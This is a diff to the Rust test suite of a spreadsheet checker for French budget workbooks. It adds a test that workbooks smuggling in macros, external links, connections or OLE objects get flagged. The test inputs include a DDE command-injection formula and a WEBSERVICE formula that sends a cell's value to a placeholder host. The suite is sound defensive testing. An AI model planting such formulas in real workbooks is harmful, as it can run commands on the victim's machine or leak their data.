@@ -88,11 +88,12 @@ fn toml_and_workbook_twins_agree() {
 /// `oui`/`non`, a typed date, a department typed as a number, a formula with its cached
 /// value, an unknown column and an unknown key.
 fn classeur_a_la_main(chemin: &Path) {
-    classeur_a_la_main_avec(chemin, "Recettes");
+    classeur_a_la_main_avec(chemin, "Recettes", None);
 }
 
-/// The same workbook, its income sheet named `recettes`.
-fn classeur_a_la_main_avec(chemin: &Path, recettes: &str) {
+/// The same workbook, its income sheet named `recettes`, with `formule` in a note cell of
+/// Dépenses (G2) when given.
+fn classeur_a_la_main_avec(chemin: &Path, recettes: &str, formule: Option<&str>) {
     let mut wb = Workbook::new();
     let gras = Format::new().set_bold();
     {
@@ -172,6 +173,9 @@ fn classeur_a_la_main_avec(chemin: &Path, recettes: &str) {
         f.write_string(4, 1, "fonctionnement").expect("w");
         f.write_string(4, 2, "Quote-part du loyer de l'association").expect("w");
         f.write_string(4, 5, "à revoir").expect("w");
+        if let Some(x) = formule {
+            f.write_formula(1, 6, Formula::new(x).set_result("0")).expect("w");
+        }
     }
     {
         let f = wb.add_worksheet().set_name(recettes).expect("name");
@@ -1315,7 +1319,7 @@ fn a_typed_template_offers_only_the_indicators_its_rules_may_ask_for() {
 fn a_renamed_sheet_is_named_not_silently_skipped() {
     let dir = tempfile::tempdir().expect("tempdir");
     let xlsx = dir.path().join("renommee.xlsx");
-    classeur_a_la_main_avec(&xlsx, "Recettes 2025");
+    classeur_a_la_main_avec(&xlsx, "Recettes 2025", None);
     let r = verifier(&xlsx);
     let manquant =
         r.constats.iter().find(|c| c.regle == "SAISIE-CHAMP-MANQUANT" && c.message.contains("Recettes 2025"));
@@ -1324,4 +1328,108 @@ fn a_renamed_sheet_is_named_not_silently_skipped() {
     assert_eq!(manquant.emplacement.cellule.as_deref(), Some("Recettes 2025!A1"));
     assert!(r.constats.iter().all(|c| c.regle != "GEN-DEMANDE-ABSENTE"), "{:#?}", r.constats);
     assert_eq!(r.budget, None, "no budget from a workbook whose income was not read");
+}
+
+/// A copy of a workbook (zip) with parts added and texts replaced in some parts.
+fn classeur_modifie(base: &[u8], ajouts: &[(&str, &[u8])], remplacements: &[(&str, &str, &str)]) -> Vec<u8> {
+    use std::io::{Read, Write};
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(base)).expect("zip");
+    let mut sortie = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    for i in 0..archive.len() {
+        let mut partie = archive.by_index(i).expect("part");
+        let nom = partie.name().expect("name").to_string();
+        let mut octets = Vec::new();
+        partie.read_to_end(&mut octets).expect("read");
+        for (ou, avant, apres) in remplacements {
+            if nom == *ou {
+                let texte = String::from_utf8(octets.clone()).expect("utf-8");
+                assert!(texte.contains(avant), "{nom}: {avant}");
+                octets = texte.replacen(avant, apres, 1).into_bytes();
+            }
+        }
+        sortie.start_file(nom, options).expect("start");
+        sortie.write_all(&octets).expect("write");
+    }
+    for (nom, octets) in ajouts {
+        sortie.start_file(*nom, options).expect("start");
+        sortie.write_all(octets).expect("write");
+    }
+    sortie.finish().expect("finish").into_inner()
+}
+
+/// Hostile round 4: active content is found by what it is — its relationship type, content
+/// type or formula text — never by its part's name. A VBA project stored as xl/donnees.bin,
+/// a DDE link at xl/liens/lien1.xml, a connection at xl/cnx.xml, an OLE package at
+/// xl/objet.dat, a DDE formula and WEBSERVICE in a cell: each is told.
+#[test]
+fn active_content_is_found_by_its_type_not_its_name() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let base = dir.path().join("base.xlsx");
+    classeur_a_la_main(&base);
+    let octets = std::fs::read(&base).expect("read");
+    assert!(!verifier(&base).constats.iter().any(|c| c.regle.starts_with("CLASSEUR-")));
+    let types = "[Content_Types].xml";
+    let rels = "xl/_rels/workbook.xml.rels";
+    let cas: [(&str, &str, &str, &str, &str); 4] = [
+        (
+            "xl/donnees.bin",
+            "application/vnd.ms-office.vbaProject",
+            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+            "donnees.bin",
+            "CLASSEUR-MACROS",
+        ),
+        (
+            "xl/liens/lien1.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink",
+            "liens/lien1.xml",
+            "CLASSEUR-LIENS-EXTERNES",
+        ),
+        (
+            "xl/cnx.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections",
+            "cnx.xml",
+            "CLASSEUR-LIENS-EXTERNES",
+        ),
+        (
+            "xl/objet.dat",
+            "application/vnd.openxmlformats-officedocument.oleObject",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package",
+            "objet.dat",
+            "CLASSEUR-MACROS",
+        ),
+    ];
+    for (partie, type_contenu, type_relation, cible, regle) in cas {
+        let modifie = classeur_modifie(
+            &octets,
+            &[(partie, b"<x/>".as_slice())],
+            &[
+                (
+                    types,
+                    "</Types>",
+                    &format!("<Override PartName=\"/{partie}\" ContentType=\"{type_contenu}\"/></Types>"),
+                ),
+                (
+                    rels,
+                    "</Relationships>",
+                    &format!("<Relationship Id=\"rIdX\" Type=\"{type_relation}\" Target=\"{cible}\"/></Relationships>"),
+                ),
+            ],
+        );
+        let p = dir.path().join("actif.xlsx");
+        std::fs::write(&p, modifie).expect("write");
+        let r = verifier(&p);
+        assert!(r.constats.iter().any(|c| c.regle == regle), "{partie}: {:#?}", r.constats);
+    }
+    for (formule, regle) in [
+        ("cmd|' /C calc'!A0", "CLASSEUR-LIENS-EXTERNES"),
+        ("WEBSERVICE(\"https://exemple.test/\"&B5)", "CLASSEUR-LIENS-EXTERNES"),
+    ] {
+        let p = dir.path().join("formule.xlsx");
+        classeur_a_la_main_avec(&p, "Recettes", Some(formule));
+        let r = verifier(&p);
+        assert!(r.constats.iter().any(|c| c.regle == regle), "{formule}: {:#?}", r.constats);
+    }
 }
